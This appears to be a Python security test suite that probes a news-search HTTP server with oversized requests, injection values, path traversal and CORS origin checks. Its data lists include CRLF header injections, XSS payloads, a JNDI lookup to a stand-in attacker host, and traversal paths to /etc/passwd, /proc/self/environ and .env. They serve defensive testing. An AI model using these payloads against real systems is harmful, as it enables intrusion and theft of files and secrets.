"""Requests that are too large, and values that would be more than values: in headers, the log, paths and origins."""
import json
import os
import re
import subprocess
import urllib.parse
import xml.etree.ElementTree

from attack_clients import NoAnswer, cut, exchanged, get, post

KB = 1 << 10
READ_WHOLE = "batch of 1,001 lines"  # before it is refused, so that its connection may go on


def offers(program, option):
    """Whether `newssearch serve` has it."""
    return option in subprocess.run([program, "serve", "--help"], capture_output=True, text=True, check=False).stdout


def padded(size):
    """A request whose line and headers are as many bytes."""
    return get("/healthz", b"X-Pad: " + b"a" * (size - len(get("/healthz", b"X-Pad: "))))


def search(query, **parameters):
    return get("/v1/search?" + urllib.parse.urlencode({"q": query, **parameters}))


def json_of(size):
    """A search as JSON of as many bytes."""
    return b'{"q":"harbour"' + b" " * (size - 15) + b"}"


CHUNKS = get("/v1/search", b"Content-Type: application/json", b"Transfer-Encoding: chunked", method=b"POST")


def in_a_chunk(body):
    return CHUNKS + b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)


def too_large():
    """Names, requests and the statuses that are right."""
    fields = [b"X-%d: a" % number for number in range(64)]
    yield "target of 4 KB", get("/healthz?" + "a" * (4 * KB - 9)), {200}
    yield "target of 4 KB and a byte", get("/healthz?" + "a" * (4 * KB - 8)), {414}
    yield "target of 7 KB", get("/" + "a" * (7 * KB)), {414}
    yield "target of 100 KB", get("/" + "a" * (100 * KB)), {414}
    yield "first line of 100 KB that does not end", b"GET /" + b"a" * (100 * KB), {414}
    yield "method of 100 KB", b"A" * (100 * KB) + b" / HTTP/1.1\r\nHost: a\r\n\r\n", {400, 414}
    yield "request line and headers of 8 KB", padded(8 * KB), {200}
    yield "request line and headers of 8 KB and a byte", padded(8 * KB + 1), {431}
    yield "headers of 1 MB", padded(1 << 20), {431}
    yield "headers of 1 MB that do not end", padded(1 << 20)[:-4], {431}
    yield "name of a field of 9 KB", get("/healthz", b"X" * (9 * KB) + b": a"), {431}
    yield "blanks of 9 KB before a value", get("/healthz", b"X-A:" + b" " * (9 * KB) + b"a"), {431}
    yield "64 fields", get("/healthz", *fields[:63]), {200}
    yield "65 fields", get("/healthz", *fields), {431}
    yield "1,000 fields", get("/healthz", *[b"A: b"] * 1000), {431}
    yield "10,000 fields", get("/healthz", *[b"A: b"] * 10_000), {431}
    yield "2,000 parameters", get("/v1/search?" + "&" * 2000 + "a&" * 1000), {400}
    yield "body of 4 KB", post("/v1/search", json_of(4 * KB)), {200}
    yield "body of 4 KB and a byte", post("/v1/search", json_of(4 * KB + 1)), {413}
    yield "body of 4 KB in a chunk", in_a_chunk(json_of(4 * KB)), {200}
    yield "body of 4 KB and a byte in a chunk", in_a_chunk(json_of(4 * KB + 1)), {413}
    yield "body of 1 MB in a chunk", in_a_chunk(json_of(1 << 20)), {413}
    yield "body of 5 KB in chunks of a byte", CHUNKS + b"1\r\na\r\n" * (5 * KB) + b"0\r\n\r\n", {413}
    yield "body of 1 TB announced", get("/v1/search", b"Content-Length: 1000000000000", method=b"POST"), {413}
    yield "chunk of 1 TB announced", CHUNKS + b"e8d4a51000\r\naaaa", {413}
    yield "chunk extension of 100 KB", CHUNKS + b"1;" + b"a" * (100 * KB) + b"\r\na\r\n0\r\n\r\n", \
        {400, 413, 431}
    yield "trailers of 100 KB", CHUNKS + b"0\r\n" + b"X-A: b\r\n" * (12 * KB) + b"\r\n", {400, 413, 431}
    yield "body too large, asking first", get("/v1/search", b"Content-Length: 5000", b"Expect: 100-continue",
                                              method=b"POST"), {413}
    yield "body where there is none", post("/healthz", b"a" * (5 * KB)), {405, 413}
    yield "JSON of depth 2,000", post("/v1/search", b"[" * 2000 + b"]" * 2000), {400}
    yield "JSON of depth 1,000 under a name", post("/v1/search", b'{"q":' * 600 + b"1" + b"}" * 600), {400}
    yield "query of 512 bytes", search("a" * 512), {200}
    yield "query of 513 bytes", search("a" * 513), {400}
    yield "query of 513 bytes, posted", post("/v1/search", json.dumps({"q": "a" * 513}).encode()), {400}
    yield "query of 32 words", search(" ".join(["harbour"] * 32)), {200}
    yield "query of 33 words", search(" ".join(["harbour"] * 33)), {400}
    yield "query of 17 operators", search(" OR ".join(["harbour"] * 18)), {400}
    yield "query of depth 9", search("(" * 9 + "harbour" + ")" * 9), {400}
    yield "query of depth 255", search("(" * 255 + "a" + ")" * 255), {400}
    yield "phrase of 11 words", search('"' + " ".join(["harbour"] * 11) + '"'), {400}
    yield "4 wildcards", search("har* bri* cou* win*"), {400}
    yield "101 hits a page", search("harbour", per_page=101), {400}
    yield "page beyond 1,000 hits", search("harbour", page=11, per_page=100), {400}
    yield "page of 40 digits", search("harbour", page="9" * 40), {400}
    yield "cursor of 3 KB", search("harbour", cursor="A" * (3 * KB)), {400}


def too_large_to_write():
    size = (1 << 20) + 1
    article = json.dumps({"title": "a", "body": "b" * size}).encode()
    batch = get("/v1/articles:batch", b"Content-Type: application/x-ndjson", method=b"POST").removesuffix(b"\r\n")
    lines = b'{"id":"x","title":"a","body":"b"}\n' * 1001
    yield "article of more than 1 MB", get("/v1/articles/x", b"Content-Type: application/json",
                                           b"Content-Length: %d" % len(article), method=b"PUT") + article, {413}
    yield "batch of 8 MB and a byte announced", batch + b"Content-Length: %d\r\n\r\n" % (8 * size), {413}
    yield READ_WHOLE, batch + b"Content-Length: %d\r\n\r\n" % len(lines) + lines, {413}


def oversized(ground, attack):
    """What is over a limit is refused by the status that says which, and what is at the limit is not."""
    socket_file = os.path.join(ground.folder, "admin.sock")
    with ground.serve(attack, "--admin", "unix:" + socket_file) as server:
        for address, cases in ((("127.0.0.1", server.port), too_large()), (socket_file, too_large_to_write())):
            for name, data, right in cases:
                must_close = min(right) in (413, 414, 431) and name != READ_WHOLE
                try:
                    got, closed = exchanged(address, data, half_close=not must_close)
                    found = [answer.status for answer in cut(got)]
                except NoAnswer as error:
                    closed, found = True, [str(error)]
                attack.claim(f"{name}: {'/'.join(map(str, found))}",
                             len(found) == 1 and found[0] in right and closed,
                             f"{found} closed={closed}, not {sorted(right)}: {data[:60]!r}")
        attack.claim("plain requests are answered after it", server.is_well(), "they are not")


# What would end a line, start a field, move a cursor, or become markup.
VALUES = [b"a%0d%0aX-Injected:%20yes", b"a%0aX-Injected:%20yes", b"a%0dX-Injected:%20yes", b"a%0d%0a%0d%0a<html>",
          b"a%00b", b"a%1b[31mred", b"a%1b]0;title%07", b"a%7f%08%09%0b%0c", b"a%c2%85b%c2%9b31m",
          b"a%e2%80%a8b%e2%80%a9", b"a%e2%80%aeb", b"a%ff%fe", b"a%c0%8aX-Injected:%20yes",
          b"a%e5%98%8a%e5%98%8dX-Injected:%20y", b"%22%7d%0a%7b%22level%22:%22error%22%7d",
          b"%22%2c%22status%22:%22200", b"%5c%22%5cn", b"%250d%250aX-Injected:%20yes",
          b"%22%3e%3cscript%3ealert(7)%3c/script%3e", b"'%3e%3cimg%20src=x%20onerror=alert(7)%3e",
          b"javascript:alert(7)", b"%7b%7b7*7%7d%7d", b"%25n%25s%25x", b"$%7bjndi:ldap://evil.example/a%7d"]
PLACES = [b"/%s", b"/v1/articles/%s", b"/v1/articles/%s/related", b"/v1/articles/%s/versions", b"/article/%s",
          b"/story/%s", b"/v1/stories/%s", b"/v1/stories/first-3?tz=%s", b"/story/first-3?q=%s", b"/assets/%s",
          b"/search?q=%s", b"/search?q=harbour&section=%s", b"/search?q=harbour&%s=1", b"/search?q=harbour&sort=%s",
          b"/trending?window=%s", b"/v1/feed.rss?q=%s", b"/v1/feed.atom?q=harbour&section=%s",
          b"/v1/suggest/opensearch?q=%s", b"/v1/search?q=%s", b"/v1/search?%s=1", b"/v1/search?q=harbour&sort=%s",
          b"/v1/search?q=harbour&cursor=%s", b"/v1/search?q=harbour&tz=%s", b"/v1/suggest?q=%s",
          b"/v1/trending?window=%s", b"/?%s", b"http://%s/healthz", b"http://news.example/%s"]
FIELDS = [b"X-Request-Id", b"Origin", b"Referer", b"User-Agent", b"Host", b"Accept", b"Accept-Language",
          b"If-None-Match", b"Authorization", b"Cookie", b"X-Forwarded-For", b"X-Forwarded-Host", b"X-Forwarded-Proto",
          b"Forwarded", b"Range", b"Content-Type", b"Access-Control-Request-Method", b"Access-Control-Request-Headers",
          b"Expect", b"Connection"]
RAW = [b"a\x1b[31m", b"a\x00b", b"a\x7f", b"a\x0bb", b"a\rX-Injected: yes", b"a\nX-Injected: yes", b"a\xc2\x9b31m",
       b"a\xff\xfe", b"a\r\n\tX-Injected: yes", b"a\"}\\", b"<script>alert(7)</script>", b"a\tb",
       b"https://site.example"]
MARKUP = re.compile(rb"<script>alert|<img src=x|href=[\"']?javascript:", re.IGNORECASE)
CONTROLS = re.compile(rb"[\x00-\x1f]")  # JSON lets DEL pass


def broken_by(answer):
    """What of a value has become more than a value in an answer; empty where nothing has."""
    fields = set(answer.fields)
    if "x-injected" in fields:
        return "a field of its own"
    kind = answer.fields.get("content-type", "")
    if "json" in kind:
        if CONTROLS.search(answer.body):
            return "control bytes in JSON"
        json.loads(answer.body)
    elif "xml" in kind:
        xml.etree.ElementTree.fromstring(answer.body)
    elif "html" in kind and MARKUP.search(answer.body):
        return "markup in a page"
    return ""


def injections():
    for place in PLACES:
        for value in VALUES:
            yield get(place % value)
            yield get(place % value, b"Accept: text/html")
    for field in FIELDS:
        for value in RAW + [urllib.parse.unquote_to_bytes(value.decode()) for value in VALUES]:
            yield get("/search?q=harbour", field + b": " + value)
            yield get("/v1/stories/first-4", field + b": " + value, method=b"OPTIONS")
            yield get("/v1/feed.rss?q=harbour", field + b": " + value)
    for value in RAW + VALUES:
        yield get("/" + value.decode("latin-1"))
        yield get("/healthz", method=b"G" + value)
        yield get("/healthz", b"X-" + value + b": a")
        yield post("/v1/search", json.dumps({"q": value.decode("latin-1"), value.decode("latin-1"): 1}).encode())
        yield post("/v1/search", b'{"q":"' + value + b'"}')


def injection(ground, attack):
    """No value leaves its place: not in the headers of an answer, not on a page, not in the log."""
    sent, broken, statuses = 0, [], {}
    queries_too = ["--slow-log", "1"] if offers(ground.program, "--slow-log") else []
    with ground.serve(attack, "--access-log", *queries_too) as server:
        for data in injections():
            sent += 1
            try:
                for answer in cut(exchanged(("127.0.0.1", server.port), data)[0]):
                    statuses[answer.status] = statuses.get(answer.status, 0) + 1
                    if answer.status >= 500 and answer.status != 505:
                        broken.append(f"{answer.status} to {data!r}")
                    if what := broken_by(answer):
                        broken.append(f"{what}: {data!r}")
            except (NoAnswer, ValueError, xml.etree.ElementTree.ParseError) as error:
                broken.append(f"{error} to {data!r}")
        attack.claim(f"{sent} values stay values in answers", not broken, f"{len(broken)}: {broken[:3]}")
    log = server.logged()
    lines, bad = log.splitlines(), []
    for line in log.split(b"\n")[:-1]:
        try:
            event = json.loads(line)
            if not isinstance(event, dict) or not {"time", "level", "event"} <= set(event):
                bad.append(line)
        except ValueError:
            bad.append(line)
    attack.claim("no raw control bytes in the log", not re.search(rb"[^ -~\n]", log),
                 re.findall(rb"[^\n]*[^ -~\n][^\n]*", log)[:2])
    attack.claim("each line of the log is an event in JSON", lines and not bad, bad[:2])
    attack.figures.update(values=sent, broken=len(broken), log_lines=len(lines), bad_lines=len(bad),
                          answers="/".join(f"{status}:{n}" for status, n in sorted(statuses.items())))


def paths(folder):
    """Targets that might lead to a file: to secret.txt beside the data directory, in it, and to /etc/passwd."""
    ups = ["../", "..%2f", "%2e%2e/", "%2e%2e%2f", "%2E%2E%2F", "..%5c", "..\\", "%2e%2e%5c", "....//", "..;/",
           "..%3b/", "%252e%252e%252f", "..%252f", "..%c0%af", "%c0%ae%c0%ae/", "%e0%80%ae%e0%80%ae/", "%c0%2e%c0%2e/",
           "..%c1%9c", "%uff0e%uff0e/", "%ef%bc%8e%ef%bc%8e/", "..%00/", "..%0d%0a/", ".%09./", "./../", "//../",
           "..//", ".%2e/", "%2e./", "..%ff/"]
    files = ["secret.txt", "data/secret.txt", "etc/passwd", "data/current"]
    bases = ["/", "/assets/", "/assets/search.css/", "/v1/articles/", "/article/", "/search/", "/static/", "//",
             "/v1/stories/"]
    for up in ups:
        for file in files:
            for number, base in enumerate(bases):
                yield base + up * (1 if number % 2 else 8) + file
    for whole in ["/secret.txt", "//secret.txt", "/./secret.txt", "/data/secret.txt", "//etc/passwd", "///etc/passwd",
                  "/%2fetc%2fpasswd", "/etc/passwd%00", "/etc/passwd%00.css", "/assets/search.css%00/../../secret.txt",
                  "/\\etc\\passwd", "/%5c%5cetc%5cpasswd", "/;/etc/passwd", "/etc/passwd;a=b", "/search;/../etc/passwd",
                  "/file:///etc/passwd", "file:///etc/passwd", "http:///etc/passwd",
                  "http://news.example/../etc/passwd", "http://news.example//etc/passwd", "http:/etc/passwd",
                  "//evil.example/..%2f", "//evil.example/%2f..", "/\\evil.example", "/%09/evil.example", "/.", "/..",
                  "/...", "/~root/", "/~/", "/.git/config", "/.env", "/proc/self/environ", "/assets/", "/assets",
                  "/assets/.", "/assets/..", "/assets/*", "/*", "*", "/search.css", "/assets//search.css",
                  "/assets/%73earch.css", "/ASSETS/SEARCH.CSS", "/assets/search.css/", "/assets/search.css;a",
                  "/assets/search.css%20", "/assets/search.css.", "/" + "a/" * 1500, "/" + "%2e" * 1300,
                  "/" + "../" * 1300 + "etc/passwd", "/%", "/%2", "/%zz", "/%u002e", folder + "/secret.txt",
                  "/" + folder + "/secret.txt", "/?/../secret.txt", "?secret.txt", "", "secret.txt", "./secret.txt",
                  "/v1/articles/..", "/v1/articles/%2e%2e", "/v1/articles/first-1/../first-2", "/v1/articles//",
                  "/v1/articles/" + "%f0" * 300, "/v1/articles/first-1%00", "/v1//search", "/v1/./search",
                  "/v1/%2e/search"]:
        yield whole


def path_tricks(ground, attack):
    """Paths never lead to a file: no more is served than the routes and the pages' own files."""
    secrets = [b"secret-of-the-folder", b"secret-of-the-data", b"root:x:0:", b"xapian", b"IAmGlass"]
    for place, text in ((ground.folder, secrets[0]), (ground.data, secrets[1])):
        with open(os.path.join(place, "secret.txt"), "wb") as file:
            file.write(text + b"\n")
    sent, escapes, odd, statuses = 0, [], [], {}
    with ground.serve(attack) as server:
        for target in paths(ground.folder):
            sent += 1
            data = get(target, b"Connection: close")
            try:
                got, _ = exchanged(("127.0.0.1", server.port), data)
                found = cut(got)
            except NoAnswer as error:
                odd.append(f"{error} to {target!r}")
                continue
            if any(secret in got for secret in secrets):
                escapes.append(target)
            for answer in found:
                statuses[answer.status] = statuses.get(answer.status, 0) + 1
                where = answer.fields.get("location", "/")
                if answer.status not in (200, 302, 308, 400, 404) or not re.match(r"/(?![/\\])|/$", where):
                    odd.append(f"{answer.status} {where} to {target[:80]!r}")
            if len(found) != 1:
                odd.append(f"{len(found)} answers to {target[:80]!r}")
    attack.claim(f"{sent} paths lead to no file", not escapes, escapes[:5])
    attack.claim("each is answered once, with 200, 302, 308, 400 or 404, and sends nobody elsewhere", not odd, odd[:5])
    attack.figures.update(paths=sent, escapes=len(escapes),
                          answers="/".join(f"{status}:{n}" for status, n in sorted(statuses.items())))


LISTED = "https://site.example"
ALSO_LISTED = "http://localhost:3000"
ORIGINS = {  # as sent -> whether it is one of the listed
    LISTED: True, ALSO_LISTED: True, None: False, "": False, "null": False, "*": False, "https://other.example": False,
    "https://site.example.evil": False, "https://site.example.evil.example": False, "https://evil-site.example": False,
    "https://evil.site.example": False, "https://sitexexample": False, "http://site.example": False,
    "https://site.example:443": False, "https://site.example:8443": False, "https://SITE.example": False,
    "HTTPS://site.example": False,
    "https://site.example.": False, "https://site.example/": False, "https://site.example/path": False,
    "https://site.example?": False, "https://site.example#": False, "https://user@site.example": False,
    "https://site.example@evil.example": False, "https://site.example, https://evil.example": False,
    "https://site.example https://evil.example": False, "https://evil.example, https://site.example": False,
    "https://site.example\tx": False, "https://site.exampl": False, "site.example": False, "//site.example": False,
    "http://localhost": False, "http://localhost:30001": False, "http://localhost:3000.evil.example": False,
    "https://localhost:3000": False, "http://127.0.0.1:3000": False, "https://site.example%00": False,
    "https://site.example%0d%0a": False, "https://s\u00efte.example": False,
}


def cors(ground, attack):
    """Another site's page may read answers where its origin is listed, letter by letter, and never with credentials."""
    if not offers(ground.program, "--allow-origin"):
        attack.skip("this `newssearch serve` has no --allow-origin")
        return
    socket_file = os.path.join(ground.folder, "cors.sock")
    preflight = [b"Access-Control-Request-Method: GET", b"Connection: close"]
    wrong = 0
    with ground.serve(attack, "--allow-origin", LISTED, "--allow-origin", ALSO_LISTED, "--admin",
                      "unix:" + socket_file) as server:
        def row(name, data, origin, statuses, address=("127.0.0.1", server.port), listed=None, varies=True):
            nonlocal wrong
            listed = ORIGINS.get(origin, False) if listed is None else listed
            answer = cut(exchanged(address, data)[0])[0]
            allowed = answer.fields.get("access-control-allow-origin")
            vary = [one.strip().lower() for one in answer.fields.get("vary", "").split(",")]
            held = (allowed == (origin if listed else None) and "access-control-allow-credentials" not in answer.fields
                    and answer.status in statuses and ("origin" in vary or not varies))
            wrong += not held
            attack.claim(f"{name}: {answer.status} {'allowed' if allowed else '-'}", held,
                         f"status {answer.status}, {answer.fields}")

        for origin, listed in ORIGINS.items():
            field = [] if origin is None else [b"Origin: " + origin.encode()]
            refused = set(range(400, 500))
            row(f"GET from {origin!r}", get("/v1/search?q=harbour", b"Connection: close", *field), origin, {200})
            row(f"preflight from {origin!r}", get("/v1/search?q=harbour", *preflight, *field, method=b"OPTIONS"),
                origin, {204} if listed else refused, varies=listed)
        from_listed = b"Origin: " + LISTED.encode()
        row("refused query", get("/v1/search?q=" + "a" * 513, from_listed), LISTED, {400})
        row("POST", post("/v1/search", b'{"q":"harbour"}', from_listed), LISTED, {200})
        row("two Origins", get("/v1/search?q=harbour", from_listed, from_listed), LISTED, {200, 400}, listed=False,
            varies=False)
        row("two Origins, one not listed", get("/v1/search?q=harbour", b"Origin: https://evil.example", from_listed),
            LISTED, {200, 400}, listed=False, varies=False)
        row("origin in Referer", get("/v1/search?q=harbour", b"Referer: " + LISTED.encode()), None, {200})
        row("the admin listener", get("/v1/search?q=harbour", from_listed), LISTED, {200}, socket_file, False, False)
        row("preflight to the admin listener", get("/v1/articles/first-1", *preflight, from_listed, method=b"OPTIONS"),
            LISTED, set(range(400, 500)), socket_file, False, False)
    with ground.serve(attack) as server:
        answers = [server.answers(get("/v1/search?q=harbour", from_listed, method=method))[0]
                   for method in (b"GET", b"OPTIONS")]
        attack.claim("without the option no origin is allowed",
                     not any(name.startswith("access-control-") for one in answers for name in one.fields),
                     [one.fields for one in answers])
    attack.figures.update(origins=len(ORIGINS), wrong=wrong)
